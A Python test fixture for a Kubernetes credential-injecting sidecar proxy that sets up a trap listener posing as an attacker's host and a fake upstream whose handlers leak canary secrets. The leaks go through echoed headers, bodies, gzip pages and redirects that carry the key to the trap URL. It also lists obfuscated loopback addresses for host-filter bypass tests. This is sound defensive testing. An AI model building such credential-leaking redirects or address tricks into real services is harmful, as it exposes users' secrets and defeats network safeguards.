"""The attacker's world: a subject account with a policy, a recording upstream, a trap, a sidecar.

Every catalogue runs against a real ``sidekey proxy`` subprocess wired to the
real apiserver, the way the kubelet would start it (the test plays the
kubelet: it mints the tokens with TokenRequest and resolves the downward API).
The upstream records every request it receives, so "none reached the
upstream" is read from its record, not inferred from a status code. The trap
is a plain TCP listener on another port standing for the attacker's host:
anything that connects to it is a leak.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml
from aiohttp import web

from sidekey.core import contract
from sidekey.localcluster.cluster import free_port

SA = "agent"
POD = "agent-pod"
#: The pod IP the sidecar is told it has (the downward API's status.podIP).
POD_IP = "10.244.0.7"
#: Distinctive secret values. They hold '+', '/' and '=' so that their raw,
#: URL-encoded and base64 forms all differ, and a leak of any form is visible.
KEYS = {
    "openai": "sk-CANARY+openai/7f3a9c1e=QZ",
    "query": "qk-CANARY+query/51d0be77=XY",
    "header": "hk-CANARY+header/0c4e19aa=WV",
    "username": "canary-user",
    "password": "pw-CANARY+basic/93be21f0=UT",
    "client_id": "canary-client",
    "client_secret": "cs-CANARY+oauth/4b2e61d0=RS",
}
#: What the upstream's OAuth2 token endpoint issues for the canary client (itself a secret).
ACCESS_TOKEN = "at-CANARY+access/77aa09c3=PQ"
SECRET_NAME = "upstream-keys"


def wait_until(predicate: Callable[[], bool], timeout: float, what: str, step: float = 0.05) -> float:
    started = time.monotonic()
    while not predicate():
        if time.monotonic() - started > timeout:
            raise AssertionError(f"{what} not reached within {timeout}s")
        time.sleep(step)
    return time.monotonic() - started


# --- the trap: the attacker's host ---------------------------------------------------------


class Trap:
    """A TCP listener that records every connection and the first bytes sent on it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port: int = self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                conn.settimeout(0.5)
                try:
                    data = conn.recv(65536)
                except OSError:
                    data = b""
                self.hits.append(data or b"<connected>")
                with contextlib.suppress(OSError):
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def close(self) -> None:
        self._stop = True
        self.sock.close()
        self._thread.join(2)


# --- the upstream -------------------------------------------------------------------------


@dataclass
class Seen:
    method: str
    raw_path: str
    host: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Upstream:
    """A local HTTP upstream (in a thread) that records what reaches it."""

    trap_url: str
    port: int = 0
    seen: list[Seen] = field(default_factory=list)
    slow_done: int = 0
    _loop: asyncio.AbstractEventLoop | None = None
    _thread: threading.Thread | None = None
    _runner: web.AppRunner | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def paths(self) -> list[str]:
        return [s.raw_path for s in self.seen]

    def _app(self) -> web.Application:
        async def record(request: web.Request) -> Seen:
            body = await request.read()
            s = Seen(request.method, request.raw_path, request.headers.get("Host", ""), dict(request.headers), body)
            self.seen.append(s)
            return s

        def received_credential(request: web.Request) -> str:
            auth = request.headers.get("Authorization", "")
            if auth.startswith("Bearer "):
                return auth[7:]
            if auth.startswith("Basic "):
                return base64.b64decode(auth[6:]).decode()
            return request.headers.get("X-Goog-Api-Key") or request.query.get("key", "")

        def echoes(value: str) -> str:
            """The credential as careless upstreams echo it: raw, URL-encoded and base64."""
            return " ".join([value, urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value),
                             base64.b64encode(value.encode()).decode(),
                             base64.urlsafe_b64encode(value.encode()).decode().rstrip("=")])

        async def oauth_token(request: web.Request) -> web.Response:
            """An OAuth2 token endpoint (RFC 6749 4.4) that knows the canary client only."""
            self.seen.append(Seen(request.method, request.raw_path, request.headers.get("Host", ""),
                                  dict(request.headers), await request.read()))
            auth = request.headers.get("Authorization", "")
            pair = base64.b64decode(auth[6:]).decode() if auth.startswith("Basic ") else ":"
            client, _, secret = pair.partition(":")
            if (urllib.parse.unquote_plus(client), urllib.parse.unquote_plus(secret)) != (
                    KEYS["client_id"], KEYS["client_secret"]):
                return web.json_response({"error": "invalid_client"}, status=401)
            return web.json_response({"access_token": ACCESS_TOKEN, "token_type": "Bearer", "expires_in": 3600})

        async def ok(request: web.Request) -> web.Response:
            s = await record(request)
            return web.json_response({"ok": True, "path": s.raw_path})

        async def stream(request: web.Request) -> web.StreamResponse:
            await record(request)
            n = int(request.query.get("n", "5"))
            gap = float(request.query.get("gap", "0.1"))
            resp = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
            await resp.prepare(request)
            for i in range(n):
                await resp.write(f"data: {i}\n\n".encode())
                await asyncio.sleep(gap)
            await resp.write(b"data: [DONE]\n\n")
            await resp.write_eof()
            return resp

        async def slow(request: web.Request) -> web.Response:
            await record(request)
            await asyncio.sleep(float(request.query.get("s", "5")))
            self.slow_done += 1
            return web.Response(text="late")

        async def redirect(request: web.Request) -> web.Response:
            await record(request)
            return web.Response(status=302, headers={"Location": f"{self.trap_url}/steal"}, text="moved")

        async def leak_body(request: web.Request) -> web.StreamResponse:
            await record(request)
            text = f'{{"error": "invalid key {echoes(received_credential(request))}"}}\n'.encode()
            resp = web.StreamResponse(status=401, headers={"Content-Type": "application/json"})
            await resp.prepare(request)
            for i in range(0, len(text), 7):  # small chunks: the key straddles chunk boundaries
                await resp.write(text[i : i + 7])
            await resp.write_eof()
            return resp

        async def leak_header(request: web.Request) -> web.Response:
            await record(request)
            value = received_credential(request)
            return web.Response(status=403, text="forbidden", headers={
                "X-Echo": value, "X-Echo-Encoded": urllib.parse.quote(value, safe=""),
                "X-Echo-B64": base64.b64encode(value.encode()).decode(),
                "WWW-Authenticate": f'Bearer error="invalid_token", token="{value}"'})

        async def leak_location(request: web.Request) -> web.Response:
            await record(request)
            value = received_credential(request)
            q = urllib.parse.urlencode({"key": value, "b64": base64.b64encode(value.encode()).decode()})
            return web.Response(status=302, text=f"see {self.trap_url}/cb?{q}",
                                headers={"Location": f"{self.trap_url}/cb?{q}&raw={value}"})

        async def leak_gzip(request: web.Request) -> web.Response:
            """An error page compressed when the client asks for it, as CDNs and frameworks do."""
            await record(request)
            text = f"invalid key {echoes(received_credential(request))}\n".encode()
            if "gzip" in request.headers.get("Accept-Encoding", ""):
                return web.Response(status=401, body=gzip.compress(text),
                                    headers={"Content-Encoding": "gzip", "Content-Type": "text/plain"})
            return web.Response(status=401, body=text, headers={"Content-Type": "text/plain"})

        async def leak_reason(request: web.Request) -> web.Response:
            await record(request)
            return web.Response(status=401, reason=f"Invalid key {received_credential(request)}", text="no")

        app = web.Application(client_max_size=64 << 20)
        app.router.add_route("*", "/v1/stream", stream)
        app.router.add_route("*", "/v1/slow", slow)
        app.router.add_route("*", "/v1/redirect", redirect)
        app.router.add_route("*", "/leak/body", leak_body)
        app.router.add_route("*", "/leak/header", leak_header)
        app.router.add_route("*", "/leak/location", leak_location)
        app.router.add_route("*", "/leak/gzip", leak_gzip)
        app.router.add_route("*", "/leak/reason", leak_reason)
        app.router.add_post("/oauth/token", oauth_token)
        app.router.add_route("*", "/{tail:.*}", ok)
        return app

    def start(self) -> None:
        ready = threading.Event()

        def run() -> None:
            loop = asyncio.new_event_loop()
            self._loop = loop
            asyncio.set_event_loop(loop)
            self._runner = web.AppRunner(self._app(), shutdown_timeout=0.1, handler_cancellation=True)
            loop.run_until_complete(self._runner.setup())
            site = web.TCPSite(self._runner, "127.0.0.1", 0, backlog=512)
            loop.run_until_complete(site.start())
            self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
            ready.set()
            loop.run_forever()
            loop.run_until_complete(self._runner.cleanup())
            loop.close()

        self._thread = threading.Thread(target=run, daemon=True)
        self._thread.start()
        if not ready.wait(10):
            raise RuntimeError("the recording upstream did not start")

    def stop(self) -> None:
        if self._loop is not None:
            self._loop.call_soon_threadsafe(self._loop.stop)
        if self._thread is not None:
            self._thread.join(5)


# --- Kubernetes objects ---------------------------------------------------------------------


def apply(cluster: Any, manifest: dict[str, Any]) -> dict[str, Any]:
    out = cluster.kubectl("apply", "-o", "json", "-f", "-", input=yaml.safe_dump(manifest))
    result: dict[str, Any] = json.loads(out)
    return result


def upstream_specs(upstream_url: str) -> list[dict[str, Any]]:
    """One upstream per auth type, plus hostnames the machine's /etc/hosts maps to loopback."""
    port = upstream_url.rsplit(":", 1)[1]

    def ref(key: str) -> dict[str, str]:
        return {"name": SECRET_NAME, "key": key}

    bearer = {"type": "bearer", "secretRef": ref("openai")}
    leaks = [{"methods": ["GET"], "paths": ["/leak/*"]}]
    return [
        {"name": "openai", "url": f"{upstream_url}/v1", "insecure": True, "auth": bearer,
         "allow": [{"methods": ["GET"], "paths": ["/models", "/stream", "/slow", "/redirect"]},
                   {"methods": ["POST"], "paths": ["/chat/completions"]}],
         "env": [{"name": "OPENAI_BASE_URL"}]},
        {"name": "slowpoke", "url": f"{upstream_url}/v1", "insecure": True, "auth": bearer,
         "allow": [{"methods": ["GET"], "paths": ["/slow"]}], "limits": {"timeoutSeconds": 2}},
        {"name": "bearer-leak", "url": upstream_url, "insecure": True, "auth": bearer, "allow": leaks},
        {"name": "query-leak", "url": upstream_url, "insecure": True,
         "auth": {"type": "query", "secretRef": ref("query"), "query": {"param": "key"}}, "allow": leaks},
        {"name": "header-leak", "url": upstream_url, "insecure": True,
         "auth": {"type": "header", "secretRef": ref("header"), "header": {"name": "X-Goog-Api-Key"}},
         "allow": leaks},
        {"name": "oauth-leak", "url": upstream_url, "insecure": True,
         "auth": {"type": "oauth2ClientCredentials", "secretRef": {"name": SECRET_NAME},
                  "oauth2ClientCredentials": {"tokenURL": f"{upstream_url}/oauth/token", "clientIdKey": "client_id",
                                              "clientSecretKey": "client_secret", "scopes": ["read"]}},
         "allow": leaks},
        {"name": "basic-leak", "url": upstream_url, "insecure": True,
         "auth": {"type": "basic", "secretRef": {"name": SECRET_NAME},
                  "basic": {"usernameKey": "username", "passwordKey": "password"}}, "allow": leaks},
        # hostnames that resolve to loopback through the machine's own /etc/hosts
        *({"name": name, "url": f"http://{host}:{port}/v1", "insecure": True, "auth": bearer,
           "allow": [{"methods": ["GET"], "paths": ["/models"]}]}
          for name, host in HOSTS_TO_LOOPBACK.items()),
    ]


#: Upstream name -> a policy hostname that the system resolver maps to loopback here.
HOSTS_TO_LOOPBACK = {"via-localhost": "localhost", "via-localhost-dot": "localhost.",
                     "via-hostname": socket.gethostname().lower(), "via-127-1": "127.1",
                     "via-decimal": "2130706433", "via-hex": "0x7f000001"}


def policy_manifest(namespace: str, upstreams: list[dict[str, Any]], name: str = "attack") -> dict[str, Any]:
    return {"apiVersion": contract.API_VERSION, "kind": contract.KIND,
            "metadata": {"name": name, "namespace": namespace},
            "spec": {"subjects": {"serviceAccounts": [SA]}, "upstreams": upstreams}}


def secret_manifest(namespace: str, data: dict[str, str], name: str = SECRET_NAME) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name, "namespace": namespace},
            "stringData": data}


def grant(cluster: Any, namespace: str, secrets: list[str]) -> None:
    """The RBAC the operator grants a subject account: its Secrets by name, and the policies."""
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "sidekey-sidecar", "namespace": namespace},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "resourceNames": secrets,
                   "verbs": ["get", "list", "watch"]},
                  {"apiGroups": [contract.GROUP], "resources": [contract.PLURAL],
                   "verbs": ["get", "list", "watch"]}]})
    apply(cluster, {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "sidekey-sidecar", "namespace": namespace},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "sidekey-sidecar"},
        "subjects": [{"kind": "ServiceAccount", "name": SA, "namespace": namespace}]})


def injected_pod(namespace: str, name: str = POD, sa: str = SA) -> dict[str, Any]:
    """A pod in the shape the webhook injects (enough for TokenRequest's pod binding)."""
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace},
            "spec": {"serviceAccountName": sa, "automountServiceAccountToken": False,
                     "initContainers": [{"name": contract.SIDECAR_CONTAINER_NAME,
                                         "image": "ghcr.io/sidekey/sidekey:0.1.0",
                                         "restartPolicy": "Always", "args": ["proxy"]}],
                     "containers": [{"name": "agent", "image": "example.invalid/agent:1"}]}}


def subject(cluster: Any, namespace: str, upstream_url: str,
            upstreams: list[dict[str, Any]] | None = None) -> str:
    """Account, Secret, policy, RBAC and pod; returns the pod's uid."""
    apply(cluster, {"apiVersion": "v1", "kind": "ServiceAccount",
                    "metadata": {"name": SA, "namespace": namespace}})
    apply(cluster, secret_manifest(namespace, KEYS))
    apply(cluster, policy_manifest(namespace, upstreams or upstream_specs(upstream_url)))
    grant(cluster, namespace, [SECRET_NAME])
    pod = apply(cluster, injected_pod(namespace))
    uid: str = pod["metadata"]["uid"]
    return uid


# --- the sidecar, started as the kubelet would --------------------------------------------------


@dataclass
class Sidecar:
    cluster: Any
    namespace: str
    pod_uid: str
    port: int
    health_port: int
    process: subprocess.Popen[bytes]
    workdir: Path
    agent_token: str
    api_token: str

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def health_url(self) -> str:
        return f"http://127.0.0.1:{self.health_port}"

    def logs(self) -> str:
        return (self.workdir / "proxy.out").read_text() + (self.workdir / "proxy.err").read_text()

    def audit(self) -> list[dict[str, Any]]:
        lines = []
        for line in (self.workdir / "proxy.out").read_text().splitlines():
            with contextlib.suppress(ValueError):
                doc = json.loads(line)
                if isinstance(doc, dict) and "request_id" in doc:
                    lines.append(doc)
        return lines

    def ready(self) -> bool:
        try:
            return raw_request(self.health_port, b"GET /readyz HTTP/1.1\r\nHost: x\r\n\r\n").status == 200
        except OSError:
            return False

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait(10)


def launch(cluster: Any, namespace: str, pod_uid: str, workdir: Path, *, pod_ip: str = POD_IP,
           hosts_file: Path | None = None, drain_seconds: str = "10", wait: bool = True) -> Sidecar:
    """Start ``sidekey proxy`` with the files and env the injected spec gives it.

    With ``hosts_file`` the sidecar runs in a private mount namespace whose
    /etc/hosts is that file: the pod's shared /etc/hosts, as rewritten by an
    agent. The machine's own /etc/hosts is never touched.
    """
    workdir.mkdir(parents=True, exist_ok=True)
    api_dir = workdir / "api"
    api_dir.mkdir(exist_ok=True)
    api_token = cluster.token(namespace, SA, audience=cluster.issuer, pod_name=POD, pod_uid=pod_uid,
                              seconds=contract.SIDECAR_API_TOKEN_EXPIRATION_SECONDS)
    (api_dir / contract.API_TOKEN_FILENAME).write_text(api_token)
    shutil.copy(cluster.ca_file, api_dir / contract.API_CA_FILENAME)
    (api_dir / contract.API_NAMESPACE_FILENAME).write_text(namespace)
    port, health = free_port(), free_port()
    env = {
        "PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/tmp"),
        contract.ENV_POD_NAME: POD, contract.ENV_POD_NAMESPACE: namespace, contract.ENV_POD_UID: pod_uid,
        contract.ENV_POD_IP: pod_ip, contract.ENV_SERVICE_ACCOUNT: SA,
        contract.ENV_PROXY_PORT: str(port), contract.ENV_HEALTH_PORT: str(health),
        contract.ENV_HEALTH_ADDRESS: "127.0.0.1", contract.ENV_AUDIENCE: contract.DEFAULT_AUDIENCE,
        contract.ENV_API_SERVER: cluster.url, contract.ENV_API_TOKEN_DIR: str(api_dir),
        contract.ENV_DRAIN_SECONDS: drain_seconds,
    }
    command = [sys.executable, "-m", "sidekey", "proxy"]
    if hosts_file is not None:
        command = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
                   'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts_file), *command]
    proc = subprocess.Popen(command, env=env, stdout=(workdir / "proxy.out").open("wb"),
                            stderr=(workdir / "proxy.err").open("wb"))
    agent_token = cluster.token(namespace, SA, audience=contract.DEFAULT_AUDIENCE, pod_name=POD,
                                pod_uid=pod_uid)
    sc = Sidecar(cluster, namespace, pod_uid, port, health, proc, workdir, agent_token, api_token)
    if wait:
        try:
            wait_until(lambda: sc.ready() or proc.poll() is not None, 30, "sidecar readiness", step=0.1)
        except AssertionError:
            sc.stop()
            raise AssertionError(f"the sidecar did not become ready:\n{sc.logs()[-3000:]}") from None
        assert proc.poll() is None, sc.logs()[-3000:]
    return sc


# --- raw HTTP ---------------------------------------------------------------------------------


@dataclass
class Response:
    status: int
    head: bytes  # the status line and headers, as received (all of them, 1xx included)
    body: bytes

    @property
    def raw(self) -> bytes:
        return self.head + self.body

    def json(self) -> Any:
        return json.loads(self.body)


def raw_request(port: int, data: bytes, timeout: float = 10.0) -> Response:
    """Send bytes as they are and read until the server closes (or the timeout)."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)  # no half-close: the server would take it for a client that went away
        chunks = []
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                chunk = s.recv(65536)
            except TimeoutError:
                break
            except ConnectionResetError:
                break
            if not chunk:
                break
            chunks.append(chunk)
    raw = b"".join(chunks)
    head, _, body = raw.partition(b"\r\n\r\n")
    final = head
    # interim 1xx responses come first: the final status is the first non-1xx one
    while final.startswith(b"HTTP/1.1 1") and body:
        final, _, body = body.partition(b"\r\n\r\n")
        head = head + b"\r\n\r\n" + final
    status = 0
    first = final.split(b"\r\n", 1)[0]
    if first.startswith(b"HTTP/"):
        with contextlib.suppress(ValueError, IndexError):
            status = int(first.split()[1])
    if b"transfer-encoding: chunked" in head.lower():
        body = dechunk(body)
    return Response(status, head, body)


def dechunk(data: bytes) -> bytes:
    out = bytearray()
    while data:
        size_line, _, rest = data.partition(b"\r\n")
        try:
            size = int(size_line.split(b";")[0], 16)
        except ValueError:
            return bytes(out) + data
        if size == 0:
            break
        out += rest[:size]
        data = rest[size + 2 :]
    return bytes(out)


def get(port: int, target: str, token: str | None, *, method: str = "GET", headers: dict[str, str] | None = None,
        body: bytes = b"", timeout: float = 10.0) -> Response:
    lines = [f"{method} {target} HTTP/1.1", "Host: 127.0.0.1", "Connection: close"]
    if token is not None:
        lines.append(f"Authorization: Bearer {token}")
    for k, v in (headers or {}).items():
        lines.append(f"{k}: {v}")
    if body or method in ("POST", "PUT", "PATCH"):
        lines.append(f"Content-Length: {len(body)}")
    return raw_request(port, ("\r\n".join(lines) + "\r\n\r\n").encode() + body, timeout=timeout)


@contextlib.contextmanager
def running_upstream(trap: Trap) -> Iterator[Upstream]:
    up = Upstream(trap.url)
    up.start()
    try:
        yield up
    finally:
        up.stop()
